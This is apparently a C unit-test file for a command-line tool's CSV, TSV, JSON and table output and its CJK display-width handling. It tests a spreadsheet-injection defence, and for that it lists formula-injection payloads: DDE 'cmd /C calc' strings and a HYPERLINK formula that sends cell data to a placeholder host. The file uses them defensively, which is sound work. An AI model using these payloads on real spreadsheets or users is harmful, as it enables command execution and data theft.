/* test_out.c - output writers (out.c) and display width (text.c) */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>

#include <cmocka.h>

#include "cs.h"

#define NELEM(a) (sizeof(a) / sizeof((a)[0]))
#define BOM "\xef\xbb\xbf"

static int
setup(void **state)
{
	(void)state;
	memset(&cs_conf, 0, sizeof(cs_conf));
	cs_conf.format = -1;
	unsetenv("NO_COLOR");
	unsetenv("COLUMNS");
	return 0;
}

/* ---- helpers ---------------------------------------------------------- */

struct result {
	char *s;
	size_t len;
	int status;
};

/* Writes nrows rows of cells (ncols each) in fmt to a memory stream. */
static struct result
render(enum cs_fmt fmt, const struct cs_col *cols, size_t ncols,
    const char *const *cells, size_t nrows)
{
	struct result r = { NULL, 0, 0 };
	struct cs_out *o;
	FILE *fp;
	size_t i;

	fp = open_memstream(&r.s, &r.len);
	assert_non_null(fp);
	o = cs_out_new(fp, fmt, cols, ncols);
	for (i = 0; i < nrows; i++)
		cs_out_row(o, cells + i * ncols);
	r.status = cs_out_end(o);
	fclose(fp);
	return r;
}

static void
expect(enum cs_fmt fmt, const struct cs_col *cols, size_t ncols,
    const char *const *cells, size_t nrows, const char *want, size_t wantlen)
{
	struct result r = render(fmt, cols, ncols, cells, nrows);

	assert_int_equal(r.status, 0);
	if (r.len != wantlen || memcmp(r.s, want, wantlen) != 0) {
		print_error("want [%.*s]\ngot  [%.*s]\n", (int)wantlen, want,
		    (int)r.len, r.s);
		fail();
	}
	free(r.s);
}

/* Exact bytes of a string literal, NULs and all. */
#define EXPECT(fmt, cols, cells, nrows, lit) \
	expect(fmt, cols, NELEM(cols), cells, nrows, lit, sizeof(lit) - 1)

/* Runs fn with stderr sent to a file; returns what it printed. */
static char *
capture_stderr(int (*fn)(void *), void *arg, int *status)
{
	FILE *tmp = tmpfile();
	char *s;
	long n;
	int saved;

	assert_non_null(tmp);
	fflush(stderr);
	saved = dup(2);
	dup2(fileno(tmp), 2);
	*status = fn(arg);
	fflush(stderr);
	dup2(saved, 2);
	close(saved);
	n = ftell(tmp);
	s = calloc(1, (size_t)n + 1);
	rewind(tmp);
	assert_int_equal(fread(s, 1, (size_t)n, tmp), (size_t)n);
	fclose(tmp);
	return s;
}

/*
 * A strict RFC 4180 reader for checking what the writer wrote: fields
 * are appended to *out (NUL-separated), one record per line break.
 * Returns the number of fields, or -1 on a syntax error.
 */
struct fields {
	char *f[256];
	size_t n;
	size_t rec[256];	/* record number of each field */
};

static int
parse_csv(const char *s, size_t len, const char *eol, struct fields *fl)
{
	struct cs_buf b = { 0 };
	size_t i = 0, rec = 0, el = strlen(eol);
	int quoted;

	fl->n = 0;
	while (i < len) {
		cs_buf_reset(&b);
		cs_buf_add(&b, "", 0);
		quoted = s[i] == '"';
		if (quoted) {
			for (i++;; i++) {
				if (i >= len)
					return -1;
				if (s[i] == '"') {
					if (i + 1 < len && s[i + 1] == '"') {
						cs_buf_addc(&b, '"');
						i++;
						continue;
					}
					i++;
					break;
				}
				cs_buf_addc(&b, s[i]);
			}
		} else
			for (; i < len && s[i] != ',' && s[i] != '"' &&
			    strncmp(s + i, eol, el) != 0 &&
			    s[i] != '\r' && s[i] != '\n'; i++)
				cs_buf_addc(&b, s[i]);
		if (fl->n == NELEM(fl->f))
			return -1;
		fl->rec[fl->n] = rec;
		fl->f[fl->n++] = cs_xstrdup(b.s);
		if (i < len && s[i] == ',')
			i++;
		else if (i < len && strncmp(s + i, eol, el) == 0) {
			i += el;
			rec++;
		} else if (i < len) {
			cs_buf_free(&b);
			return -1;
		}
	}
	cs_buf_free(&b);
	return (int)fl->n;
}

static void
fields_free(struct fields *fl)
{
	size_t i;

	for (i = 0; i < fl->n; i++)
		free(fl->f[i]);
	fl->n = 0;
}

/* ---- text.c: display width -------------------------------------------- */

static void
test_text_width(void **state)
{
	(void)state;
	assert_int_equal(cs_text_width(""), 0);
	assert_int_equal(cs_text_width("abc"), 3);
	assert_int_equal(cs_text_width("hello, world"), 12);
	/* CJK ideographs, kana, hangul: two columns each */
	assert_int_equal(cs_text_width("张三"), 4);
	assert_int_equal(cs_text_width("北京市"), 6);
	assert_int_equal(cs_text_width("欧阳娜娜"), 8);
	assert_int_equal(cs_text_width("カタカナ"), 8);
	assert_int_equal(cs_text_width("한국"), 4);
	assert_int_equal(cs_text_width("张三abc"), 7);
	/* CJK punctuation and full-width forms */
	assert_int_equal(cs_text_width("，。"), 4);
	assert_int_equal(cs_text_width("ＡＢＣ"), 6);
	assert_int_equal(cs_text_width("＝１＋２"), 8);
	/* half-width katakana is one column */
	assert_int_equal(cs_text_width("ｱｲ"), 2);
	/* emoji: U+1F600, U+1F44D */
	assert_int_equal(cs_text_width("\xf0\x9f\x98\x80"), 2);
	assert_int_equal(cs_text_width("ok\xf0\x9f\x91\x8d"), 4);
	/* combining marks take no column */
	assert_int_equal(cs_text_width("e\xcc\x81"), 1);	/* e U+0301 */
	assert_int_equal(cs_text_width("\xc3\xa9"), 1);		/* U+00E9 */
	assert_int_equal(cs_text_width("a\xcc\x81\xcc\x88"), 1);
	/* control characters take no column, an invalid byte one */
	assert_int_equal(cs_text_width("a\tb\n"), 2);
	assert_int_equal(cs_text_width("a\xff" "b"), 3);
	/* U+2026 and U+21B5, which the table writer inserts */
	assert_int_equal(cs_text_width("\xe2\x80\xa6"), 1);
	assert_int_equal(cs_text_width("\xe2\x86\xb5"), 1);
}

static void
test_text_fit(void **state)
{
	(void)state;
	assert_int_equal(cs_text_fit("abc", 0), 0);
	assert_int_equal(cs_text_fit("abc", 2), 2);
	assert_int_equal(cs_text_fit("abc", 3), 3);
	assert_int_equal(cs_text_fit("abc", 10), 3);
	/* never half a wide character, never half a UTF-8 sequence */
	assert_int_equal(cs_text_fit("张三", 1), 0);
	assert_int_equal(cs_text_fit("张三", 2), 3);
	assert_int_equal(cs_text_fit("张三", 3), 3);
	assert_int_equal(cs_text_fit("张三", 4), 6);
	assert_int_equal(cs_text_fit("a张三", 4), 4);
	assert_int_equal(cs_text_fit("ＡＢ", 3), 3);
	assert_int_equal(cs_text_fit("\xf0\x9f\x98\x80" "a", 1), 0);
	assert_int_equal(cs_text_fit("\xf0\x9f\x98\x80" "a", 2), 4);
	/* a combining mark stays with its base */
	assert_int_equal(cs_text_fit("e\xcc\x81x", 1), 3);
	assert_int_equal(cs_text_fit("e\xcc\x81x", 2), 4);
	/* the fitted prefix has at most the width asked for */
	assert_true(cs_text_width("欧阳娜娜") == 8);
	assert_int_equal(cs_text_fit("欧阳娜娜", 7), 9);
}

/* ---- formats ---------------------------------------------------------- */

static void
test_fmt_parse(void **state)
{
	(void)state;
	assert_int_equal(cs_fmt_parse("table"), CS_FMT_TABLE);
	assert_int_equal(cs_fmt_parse("csv"), CS_FMT_CSV);
	assert_int_equal(cs_fmt_parse("tsv"), CS_FMT_TSV);
	assert_int_equal(cs_fmt_parse("json"), CS_FMT_JSON);
	assert_int_equal(cs_fmt_parse("jsonl"), CS_FMT_JSONL);
	assert_int_equal(cs_fmt_parse("ndjson"), CS_FMT_JSONL);
	assert_int_equal(cs_fmt_parse("xml"), -1);
	assert_int_equal(cs_fmt_parse(""), -1);
	assert_int_equal(cs_fmt_parse("csvx"), -1);
	assert_int_equal(cs_fmt_parse(NULL), -1);
}

static void
test_fmt_default(void **state)
{
	FILE *fp;
	char *s = NULL;
	size_t n;

	(void)state;
	fp = open_memstream(&s, &n);
	assert_int_equal(cs_fmt_default(fp), CS_FMT_CSV);
	cs_conf.format = CS_FMT_JSON;
	assert_int_equal(cs_fmt_default(fp), CS_FMT_JSON);
	cs_conf.format = CS_FMT_TABLE;
	assert_int_equal(cs_fmt_default(fp), CS_FMT_TABLE);
	fclose(fp);
	free(s);
}

/* ---- CSV -------------------------------------------------------------- */

static const struct cs_col cols3[] = {
	{ "id", "编号", CS_COL_NUM },
	{ "name", "姓名", CS_COL_TEXT },
	{ "note", NULL, CS_COL_TEXT }
};

static void
test_csv(void **state)
{
	static const char *const rows[] = {
		"1", "Alice", "hello",
		"2", "Smith, J", "say \"hi\"",
		"3", " lead", "trail ",
		"4", "multi\nline", "cr\rx",
		"5", NULL, "",
		"6", "张三", "=1+2",
		"7", "a;b", "t\tx",
		"8", "\"", "crlf\r\n"
	};

	(void)state;
	EXPECT(CS_FMT_CSV, cols3, rows, 8,
	    "id,name,note\n"
	    "1,Alice,hello\n"
	    "2,\"Smith, J\",\"say \"\"hi\"\"\"\n"
	    "3,\" lead\",\"trail \"\n"
	    "4,\"multi\nline\",\"cr\rx\"\n"
	    "5,,\n"
	    "6,张三,=1+2\n"
	    "7,a;b,t\tx\n"
	    "8,\"\"\"\",\"crlf\r\n\"\n");
}

static void
test_csv_no_header(void **state)
{
	static const char *const rows[] = { "1", "x", "y" };

	(void)state;
	cs_conf.no_header = 1;
	EXPECT(CS_FMT_CSV, cols3, rows, 1, "1,x,y\n");
	EXPECT(CS_FMT_TSV, cols3, rows, 1, "1\tx\ty\n");
	EXPECT(CS_FMT_TABLE, cols3, rows, 1, "1  x  y\n");
	/* JSON has no header to leave out */
	EXPECT(CS_FMT_JSONL, cols3, rows, 1,
	    "{\"id\":1,\"name\":\"x\",\"note\":\"y\"}\n");
}

static void
test_csv_one_column(void **state)
{
	static const struct cs_col col[] = { { "x", NULL, CS_COL_TEXT } };
	static const char *const rows[] = { "", NULL, "a" };

	(void)state;
	/* an empty line would read back as no record */
	EXPECT(CS_FMT_CSV, col, rows, 3, "x\n\"\"\n\"\"\na\n");
}

static void
test_csv_lang_zh(void **state)
{
	static const char *const rows[] = { "1", "张三", "" };

	(void)state;
	/* column names of CSV stay English: they are the interface */
	cs_conf.lang_zh = 1;
	EXPECT(CS_FMT_CSV, cols3, rows, 1, "id,name,note\n1,张三,\n");
	EXPECT(CS_FMT_JSONL, cols3, rows, 1,
	    "{\"id\":1,\"name\":\"张三\",\"note\":\"\"}\n");
}

static void
test_csv_field(void **state)
{
	struct cs_buf x = { 0 };
	char *s = NULL;
	size_t n;
	FILE *fp;

	(void)state;
	fp = open_memstream(&s, &n);
	cs_csv_field(fp, "plain", &x, 0);
	putc('|', fp);
	cs_csv_field(fp, "a,b", &x, 0);
	putc('|', fp);
	cs_csv_field(fp, "a;b", &x, 0);
	putc('|', fp);
	cs_csv_field(fp, "q\"q", &x, 0);
	putc('|', fp);
	cs_csv_field(fp, "", &x, 0);
	putc('|', fp);
	cs_csv_field(fp, NULL, &x, 0);
	putc('|', fp);
	cs_csv_field(fp, " x", &x, 0);
	putc('|', fp);
	cs_csv_field(fp, "x ", &x, 0);
	putc('|', fp);
	cs_csv_field(fp, "l\nf", &x, 0);
	putc('|', fp);
	/* what the reader would take for --excel's: one more quote */
	cs_csv_field(fp, "'=1", &x, 0);
	putc('|', fp);
	cs_csv_field(fp, "=\"0123\"", &x, 0);
	putc('|', fp);
	cs_csv_field(fp, "'-5", &x, 0);
	putc('|', fp);
	cs_csv_field(fp, "'x", &x, 0);
	putc('|', fp);
	cs_csv_field(fp, "=1+2", &x, 0);
	fclose(fp);
	assert_string_equal(s, "plain|\"a,b\"|a;b|\"q\"\"q\"|"
	    "||\" x\"|\"x \"|\"l\nf\"|''=1|\"'=\"\"0123\"\"\"|'-5|'x|=1+2");
	free(s);
	/* for a spreadsheet: ';' and tab quoted, cells as cs_excel_cell */
	s = NULL;
	fp = open_memstream(&s, &n);
	cs_csv_field(fp, "a;b", &x, 1);
	putc('|', fp);
	cs_csv_field(fp, "a\tb", &x, 1);
	putc('|', fp);
	cs_csv_field(fp, "13812345678", &x, 1);
	putc('|', fp);
	cs_csv_field(fp, "=1+2", &x, 1);
	putc('|', fp);
	cs_csv_field(fp, "-5", &x, 1);
	putc('|', fp);
	cs_csv_field(fp, "'=1", &x, 1);
	putc('|', fp);
	cs_csv_field(fp, "'+x", &x, 1);
	fclose(fp);
	assert_string_equal(s, "\"a;b\"|\"a\tb\"|\"=\"\"13812345678\"\"\"|"
	    "'=1+2|-5|''=1|''+x");
	free(s);
	free(x.s);
}

/* ---- --excel ---------------------------------------------------------- */

/* Whatever a cell holds, the record reader gets it back from plain CSV
 * and from --excel's. */
static void
test_cell_round_trip(void **state)
{
	static const char *const v[] = { "", "x", "'", "''", "'x", "'=1",
		"''=1", "=1", "=\"0123\"", "'=\"0123\"", "=\"\"", "=\"+\"",
		"=\"-12\"", "=\"1a\"", "-5", "'-5", "+x", "'+x", "'+1.5", "@a",
		"'@a", "'\tx", "\tx", "0123", "13812345678", "+8613812345678",
		"'13812345678", "李娜", NULL };
	struct cs_buf t = { 0 };
	char buf[64];
	int i, excel;

	(void)state;
	for (i = 0; v[i]; i++)
		for (excel = 0; excel < 2; excel++) {
			snprintf(buf, sizeof(buf), "%s", excel ?
			    cs_excel_cell(v[i], &t) : cs_csv_cell(v[i], &t));
			cs_excel_uncell(buf);
			assert_string_equal(buf, v[i]);
		}
	free(t.s);
}

static void
check_cell(const char *in, const char *want)
{
	struct cs_buf tmp = { 0 };
	const char *got;

	got = cs_excel_cell(in, &tmp);
	if (strcmp(got, want) != 0) {
		print_error("cs_excel_cell(\"%s\") = \"%s\", want \"%s\"\n",
		    in, got, want);
		fail();
	}
	if (strcmp(in, want) == 0)
		assert_ptr_equal(got, in);
	cs_buf_free(&tmp);
}

static void
test_excel_cell(void **state)
{
	struct cs_buf tmp = { 0 };

	(void)state;
	/* formulas and their starters */
	check_cell("=1+2", "'=1+2");
	check_cell("+1+2", "'+1+2");
	check_cell("-1+2", "'-1+2");
	check_cell("@SUM(A1)", "'@SUM(A1)");
	check_cell("\t=1", "'\t=1");
	check_cell("\r=1", "'\r=1");
	check_cell("\n=1", "'\n=1");
	check_cell("=", "'=");
	check_cell("-", "'-");
	check_cell("-.5", "'-.5");
	check_cell("+1.", "'+1.");
	check_cell("- 1", "'- 1");
	check_cell("+86 138 1234 5678", "'+86 138 1234 5678");
	/* numbers stay numbers */
	check_cell("-1", "-1");
	check_cell("+1", "+1");
	check_cell("+3.5", "+3.5");
	check_cell("-3.5", "-3.5");
	check_cell("-0.25", "-0.25");
	check_cell("0", "0");
	check_cell("42", "42");
	check_cell("1.5", "1.5");
	check_cell("0.5", "0.5");
	check_cell("1234567890", "1234567890");
	/* long digits and leading zeros become text */
	check_cell("13812345678", "=\"13812345678\"");
	check_cell("0123", "=\"0123\"");
	check_cell("00", "=\"00\"");
	check_cell("202611240000000001", "=\"202611240000000001\"");
	check_cell("2026112400000000000000000001",
	    "=\"2026112400000000000000000001\"");
	check_cell("+8613812345678", "=\"+8613812345678\"");
	check_cell("-012", "=\"-012\"");
	/* everything else as it is */
	check_cell("", "");
	check_cell("hello", "hello");
	check_cell("张三", "张三");
	check_cell("＝1+2", "＝1+2");
	check_cell("  =1+2", "  =1+2");
	check_cell("a=1", "a=1");
	check_cell("2026-11-24", "2026-11-24");
	check_cell("1e5", "1e5");
	assert_null(cs_excel_cell(NULL, &tmp));
	cs_buf_free(&tmp);
}

static void
test_excel_csv(void **state)
{
	static const char *const rows[] = {
		"1", "=1+2", "-1",
		"2", "13812345678", "+3.5",
		"3", "0123", "@x",
		"4", "a;b", "t\tx",
		"5", "\n=1", NULL,
		"6", "=1+2\";=1+2", "=1+2'\" ;,=1+2"
	};

	(void)state;
	cs_conf.excel = 1;
	EXPECT(CS_FMT_CSV, cols3, rows, 6,
	    BOM "id,name,note\r\n"
	    "1,'=1+2,-1\r\n"
	    "2,\"=\"\"13812345678\"\"\",+3.5\r\n"
	    "3,\"=\"\"0123\"\"\",'@x\r\n"
	    "4,\"a;b\",\"t\tx\"\r\n"
	    "5,\"'\n=1\",\r\n"
	    /* OWASP's two worked examples, byte for byte */
	    "6,\"'=1+2\"\";=1+2\",\"'=1+2'\"\" ;,=1+2\"\r\n");
	/* --excel does not touch JSON */
	EXPECT(CS_FMT_JSONL, cols3, rows, 1,
	    "{\"id\":1,\"name\":\"=1+2\",\"note\":\"-1\"}\n");
	/* nor a table */
	EXPECT(CS_FMT_TABLE, cols3, rows, 1,
	    "id  name  note\n 1  =1+2  -1\n");
}

static void
test_excel_tsv(void **state)
{
	static const char *const rows[] = {
		"1", "=1+2", "-1",
		"2", "\tx", "0123"
	};

	(void)state;
	cs_conf.excel = 1;
	EXPECT(CS_FMT_TSV, cols3, rows, 2,
	    BOM "id\tname\tnote\r\n"
	    "1\t'=1+2\t-1\r\n"
	    "2\t'\\tx\t=\"0123\"\r\n");
}

static void
test_excel_empty(void **state)
{
	(void)state;
	cs_conf.excel = 1;
	EXPECT(CS_FMT_CSV, cols3, NULL, 0, BOM "id,name,note\r\n");
	cs_conf.no_header = 1;
	EXPECT(CS_FMT_CSV, cols3, NULL, 0, BOM);
}

static int
dangerous(const char *v)
{
	return v[0] != '\0' && strchr("=+-@\t\r\n", v[0]) != NULL;
}

/* The numbers among the payloads, which must come out unchanged. */
static int
control_number(const char *v)
{
	static const char *const nums[] = { "-1", "+1", "-3.5", "-0.25" };
	size_t i;

	for (i = 0; i < NELEM(nums); i++)
		if (strcmp(v, nums[i]) == 0)
			return 1;
	return 0;
}

/*
 * Checks one payload: defused when dangerous, else unchanged; and the
 * cell read back from an --excel CSV is what cs_excel_cell gave.
 */
static void
check_payload(const char *v)
{
	static const struct cs_col col[] = { { "text", NULL, CS_COL_TEXT } };
	const char *const row[] = { v };
	struct cs_buf tmp = { 0 }, want = { 0 };
	struct fields fl;
	struct result r;
	const char *got;

	got = cs_excel_cell(v, &tmp);
	if (dangerous(v) && !control_number(v)) {
		cs_buf_addc(&want, '\'');
		cs_buf_adds(&want, v);
	} else
		cs_buf_adds(&want, v);
	if (strcmp(got, want.s) != 0) {
		print_error("payload [%s]: got [%s], want [%s]\n", v, got,
		    want.s);
		fail();
	}
	/* what a spreadsheet reads back starts with nothing dangerous */
	cs_conf.excel = 1;
	r = render(CS_FMT_CSV, col, 1, row, 1);
	assert_int_equal(r.status, 0);
	assert_memory_equal(r.s, BOM, 3);
	assert_int_equal(parse_csv(r.s + 3, r.len - 3, "\r\n", &fl), 2);
	assert_string_equal(fl.f[0], "text");
	assert_string_equal(fl.f[1], want.s);
	assert_true(!dangerous(fl.f[1]) || control_number(fl.f[1]));
	fields_free(&fl);
	free(r.s);
	cs_buf_free(&tmp);
	cs_buf_free(&want);
}

/* The payload list, also kept here so the test runs without the files. */
static const char *const payloads[] = {
	"=1+2\";=1+2",
	"=1+2'\" ;,=1+2",
	"DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"=2+5+cmd|' /C calc'!A0",
	"=cmd|' /C calc'!'A1'",
	"=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"点击这里查看订单\")",
	"+1+cmd|' /C calc'!A0",
	"-1+cmd|' /C calc'!A0",
	"@SUM(1+1)",
	"\t=1+2",
	"\r=1+2",
	"\n=1+2",
	"\r\n=HYPERLINK(\"\"http://example.invalid\"\")",
	"=C",
	"  =1+2",
	"＝1+2",
	"-1",
	"+1",
	"-3.5",
	"-0.25",
	"+86 138 1234 5678"
};

static void
test_excel_payloads(void **state)
{
	size_t i;

	(void)state;
	for (i = 0; i < NELEM(payloads); i++)
		check_payload(payloads[i]);
}

static char *
testdata(const char *name)
{
	static const char *const dirs[] = {
		"../shared/testdata", "../../shared/testdata"
	};
	const char *env = getenv("CS_TESTDATA");
	char *path;
	size_t i;

	if (env != NULL) {
		path = cs_xasprintf("%s/%s", env, name);
		if (access(path, R_OK) == 0)
			return path;
		free(path);
	}
	for (i = 0; i < NELEM(dirs); i++) {
		path = cs_xasprintf("%s/%s", dirs[i], name);
		if (access(path, R_OK) == 0)
			return path;
		free(path);
	}
	return NULL;
}

static char *
slurp(const char *path, size_t *len)
{
	FILE *fp = fopen(path, "rb");
	struct cs_buf b = { 0 };
	char chunk[4096];
	size_t n;

	assert_non_null(fp);
	while ((n = fread(chunk, 1, sizeof(chunk), fp)) > 0)
		cs_buf_add(&b, chunk, n);
	fclose(fp);
	*len = b.len;
	return b.s;
}

/* Every payload of shared/testdata/csv-injection/payloads.txt. */
static void
test_excel_payloads_file(void **state)
{
	char *path, *text, *line, *save = NULL;
	size_t len, n = 0, ndangerous = 0, nnumbers = 0;

	(void)state;
	if ((path = testdata("csv-injection/payloads.txt")) == NULL) {
		print_message("payloads.txt not found (set CS_TESTDATA)\n");
		skip();
	}
	text = slurp(path, &len);
	for (line = strtok_r(text, "\n", &save); line != NULL;
	    line = strtok_r(NULL, "\n", &save)) {
		if (strcmp(line, "#") == 0 || strncmp(line, "# ", 2) == 0)
			continue;
		check_payload(line);
		n++;
		if (control_number(line))
			nnumbers++;
		else if (dangerous(line))
			ndangerous++;
	}
	/* 2 OWASP, 12 PayloadsAllTheThings (11 dangerous), 4 composed,
	 * 5 controls of which 4 are numbers and one is defused */
	assert_int_equal(n, 23);
	assert_int_equal(nnumbers, 4);
	assert_int_equal(ndangerous, 18);
	free(text);
	free(path);
}

/* Every row of payloads-control.csv: the fields starting with TAB, CR
 * or LF come out defused, the others unchanged. */
static void
test_excel_payloads_control(void **state)
{
	static const struct {
		const char *name;
		int defused;
	} cases[] = {
		{ "tab", 1 }, { "cr", 1 }, { "lf", 1 }, { "tab-only-text", 1 },
		{ "cr-lf", 1 }, { "nul-inside", 1 }, { "leading-space", 0 },
		{ "fullwidth-equals", 0 }
	};
	struct cs_buf tmp = { 0 };
	struct fields fl;
	char *path, *text;
	const char *got;
	size_t len, i, k, seen = 0;

	(void)state;
	if ((path = testdata("csv-injection/payloads-control.csv")) == NULL) {
		print_message("payloads-control.csv not found\n");
		skip();
	}
	text = slurp(path, &len);
	assert_true(parse_csv(text, len, "\r\n", &fl) > 0);
	assert_int_equal(fl.n % 2, 0);
	assert_string_equal(fl.f[0], "case");
	for (i = 2; i < fl.n; i += 2) {
		for (k = 0; k < NELEM(cases); k++)
			if (strcmp(fl.f[i], cases[k].name) == 0)
				break;
		assert_true(k < NELEM(cases));
		seen++;
		/* a NUL ends a C string: "=C" is what a caller could pass */
		got = cs_excel_cell(fl.f[i + 1], &tmp);
		if (cases[k].defused) {
			assert_int_equal(got[0], '\'');
			assert_string_equal(got + 1, fl.f[i + 1]);
		} else
			assert_ptr_equal(got, fl.f[i + 1]);
		check_payload(fl.f[i + 1]);
	}
	assert_int_equal(seen, NELEM(cases));
	fields_free(&fl);
	cs_buf_free(&tmp);
	free(text);
	free(path);
}

/* ---- TSV -------------------------------------------------------------- */

static void
test_tsv(void **state)
{
	static const struct cs_col cols[] = {
		{ "a", NULL, CS_COL_TEXT }, { "b", NULL, CS_COL_TEXT }
	};
	static const char *const rows[] = {
		"x\ty", "p\\q",
		"line1\nline2", "cr\rz",
		NULL, "",
		"张三", "a,\"b\""
	};

	(void)state;
	EXPECT(CS_FMT_TSV, cols, rows, 4,
	    "a\tb\n"
	    "x\\ty\tp\\\\q\n"
	    "line1\\nline2\tcr\\rz\n"
	    "\t\n"
	    "张三\ta,\"b\"\n");
}

/* ---- JSON ------------------------------------------------------------- */

static const struct cs_col jcols[] = {
	{ "id", NULL, CS_COL_NUM },
	{ "name", "姓名", CS_COL_TEXT },
	{ "active", NULL, CS_COL_BOOL },
	{ "score", NULL, CS_COL_NUM }
};

static void
test_json(void **state)
{
	static const char *const rows[] = {
		"1", "张三", "1", "3.5",
		"2", "Bob", "no", "-0.25"
	};

	(void)state;
	EXPECT(CS_FMT_JSON, jcols, rows, 2,
	    "[\n"
	    "{\"id\":1,\"name\":\"张三\",\"active\":true,\"score\":3.5},\n"
	    "{\"id\":2,\"name\":\"Bob\",\"active\":false,\"score\":-0.25}\n"
	    "]\n");
	EXPECT(CS_FMT_JSON, jcols, rows, 1,
	    "[\n"
	    "{\"id\":1,\"name\":\"张三\",\"active\":true,\"score\":3.5}\n"
	    "]\n");
	EXPECT(CS_FMT_JSONL, jcols, rows, 2,
	    "{\"id\":1,\"name\":\"张三\",\"active\":true,\"score\":3.5}\n"
	    "{\"id\":2,\"name\":\"Bob\",\"active\":false,\"score\":-0.25}\n");
}

static void
test_json_types(void **state)
{
	static const char *const rows[] = {
		NULL, NULL, NULL, NULL,
		"", "", "", "",
		"0123", "x", "yes", "+3",
		"-0.5e3", "y", "TRUE", "1E+2",
		"9223372036854775807", "z", "false", "-9223372036854775808",
		"9223372036854775808", "z", "0", "-9223372036854775809",
		"12345678901234567890", "", "maybe", "1e999",
		" 1", "", "2", "1.",
		".5", "", "Yes", "-",
		"0", "", "No", "-0",
		"1e", "", "true ", "0x1f",
		"NaN", "", "on", "1,5"
	};

	(void)state;
	EXPECT(CS_FMT_JSONL, jcols, rows, 12,
	    "{\"id\":null,\"name\":null,\"active\":null,\"score\":null}\n"
	    "{\"id\":null,\"name\":\"\",\"active\":null,\"score\":null}\n"
	    "{\"id\":\"0123\",\"name\":\"x\",\"active\":true,"
	    "\"score\":\"+3\"}\n"
	    "{\"id\":-0.5e3,\"name\":\"y\",\"active\":true,\"score\":1E+2}\n"
	    "{\"id\":9223372036854775807,\"name\":\"z\",\"active\":false,"
	    "\"score\":-9223372036854775808}\n"
	    "{\"id\":\"9223372036854775808\",\"name\":\"z\",\"active\":false,"
	    "\"score\":\"-9223372036854775809\"}\n"
	    "{\"id\":\"12345678901234567890\",\"name\":\"\",\"active\":"
	    "\"maybe\",\"score\":\"1e999\"}\n"
	    "{\"id\":\" 1\",\"name\":\"\",\"active\":\"2\",\"score\":\"1.\"}\n"
	    "{\"id\":\".5\",\"name\":\"\",\"active\":true,\"score\":\"-\"}\n"
	    "{\"id\":0,\"name\":\"\",\"active\":false,\"score\":-0}\n"
	    "{\"id\":\"1e\",\"name\":\"\",\"active\":\"true \",\"score\":"
	    "\"0x1f\"}\n"
	    "{\"id\":\"NaN\",\"name\":\"\",\"active\":\"on\",\"score\":"
	    "\"1,5\"}\n");
}

static void
test_json_escape(void **state)
{
	static const struct cs_col cols[] = {
		{ "we\"ird\\key", NULL, CS_COL_TEXT }
	};
	static const char *const rows[] = {
		"say \"hi\"",
		"back\\slash",
		"line1\nline2\r\n",
		"tab\there",
		"\x01\x1f\x7f\b\f",
		"张三 \xf0\x9f\x98\x80 é",
		"bad\xff\xc3(\xe5\x8c",
		"</script>"
	};
	char *s = NULL;
	size_t n;
	FILE *fp;

	(void)state;
	EXPECT(CS_FMT_JSONL, cols, rows, 8,
	    "{\"we\\\"ird\\\\key\":\"say \\\"hi\\\"\"}\n"
	    "{\"we\\\"ird\\\\key\":\"back\\\\slash\"}\n"
	    "{\"we\\\"ird\\\\key\":\"line1\\nline2\\r\\n\"}\n"
	    "{\"we\\\"ird\\\\key\":\"tab\\there\"}\n"
	    "{\"we\\\"ird\\\\key\":\"\\u0001\\u001f\x7f\\b\\f\"}\n"
	    "{\"we\\\"ird\\\\key\":\"张三 \xf0\x9f\x98\x80 é\"}\n"
	    "{\"we\\\"ird\\\\key\":\"bad\\ufffd\\ufffd(\\ufffd\\ufffd\"}\n"
	    "{\"we\\\"ird\\\\key\":\"</script>\"}\n");
	fp = open_memstream(&s, &n);
	cs_json_str(fp, "");
	cs_json_str(fp, "a\"b");
	fclose(fp);
	assert_string_equal(s, "\"\"\"a\\\"b\"");
	free(s);
}

/* ---- empty results ---------------------------------------------------- */

static void
test_empty(void **state)
{
	(void)state;
	EXPECT(CS_FMT_CSV, cols3, NULL, 0, "id,name,note\n");
	EXPECT(CS_FMT_TSV, cols3, NULL, 0, "id\tname\tnote\n");
	EXPECT(CS_FMT_JSON, cols3, NULL, 0, "[]\n");
	EXPECT(CS_FMT_JSONL, cols3, NULL, 0, "");
	EXPECT(CS_FMT_TABLE, cols3, NULL, 0, "id  name  note\n");
	cs_conf.no_header = 1;
	EXPECT(CS_FMT_CSV, cols3, NULL, 0, "");
	EXPECT(CS_FMT_TSV, cols3, NULL, 0, "");
	EXPECT(CS_FMT_JSON, cols3, NULL, 0, "[]\n");
	EXPECT(CS_FMT_JSONL, cols3, NULL, 0, "");
	EXPECT(CS_FMT_TABLE, cols3, NULL, 0, "");
}

/* ---- table ------------------------------------------------------------ */

static void
test_table_ascii(void **state)
{
	static const struct cs_col cols[] = {
		{ "id", NULL, CS_COL_NUM },
		{ "name", NULL, CS_COL_TEXT },
		{ "amount", NULL, CS_COL_NUM }
	};
	static const char *const rows[] = {
		"1", "alice", "3.5",
		"12", "bob", "-10",
		"123", NULL, "0"
	};

	(void)state;
	EXPECT(CS_FMT_TABLE, cols, rows, 3,
	    " id  name   amount\n"
	    "  1  alice     3.5\n"
	    " 12  bob       -10\n"
	    "123              0\n");
}

/* Each line of s: the display width before the start of column k
 * (after the k-th run of two or more spaces) is at. */
static void
check_column_starts(const char *s, size_t k, size_t at)
{
	char *copy = cs_xstrdup(s), *line, *save = NULL, *p;
	size_t runs;

	for (line = strtok_r(copy, "\n", &save); line != NULL;
	    line = strtok_r(NULL, "\n", &save)) {
		for (p = line, runs = 0; *p != '\0'; p++) {
			if (p[0] == ' ' && p[1] == ' ') {
				while (*p == ' ')
					p++;
				if (++runs == k)
					break;
			}
		}
		assert_int_equal(runs, k);
		*p = '\0';
		assert_int_equal(cs_text_width(line), at);
	}
	free(copy);
}

/* Every line of s is width wide (the numbers end in one column). */
static void
check_line_widths(const char *s, size_t width)
{
	char *copy = cs_xstrdup(s), *line, *save = NULL;

	for (line = strtok_r(copy, "\n", &save); line != NULL;
	    line = strtok_r(NULL, "\n", &save))
		assert_int_equal(cs_text_width(line), width);
	free(copy);
}

static void
test_table_cjk(void **state)
{
	static const struct cs_col cols[] = {
		{ "name", "姓名", CS_COL_TEXT },
